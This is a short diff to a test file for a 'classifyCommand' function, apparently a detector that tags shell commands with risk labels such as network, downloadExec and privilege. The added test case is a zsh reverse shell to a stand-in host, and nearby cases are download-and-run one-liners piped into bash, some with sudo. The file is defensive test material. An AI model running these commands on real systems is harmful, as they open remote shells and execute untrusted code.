@@ -42,6 +42,7 @@ describe('classifyCommand', () => {
     ['certutil -hashfile a.exe SHA256', []],
     ['bitsadmin /transfer job http://x.io/a.exe C:\\a.exe', ['network']],
     ['powershell -c "Start-BitsTransfer -Source http://x.io/a -Destination a"', ['network']],
+    ["zsh -c 'zmodload zsh/net/tcp; ztcp x.io 12345; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", ['network']],
     ['wget -qO- http://x.io/i.sh | sudo bash -s', ['downloadExec', 'network', 'privilege']],
     ['bash <(curl -s http://x.io/a)', ['downloadExec', 'network']],
     ['sh -c "$(curl -fsSL http://x.io/a)"', ['downloadExec', 'network']],
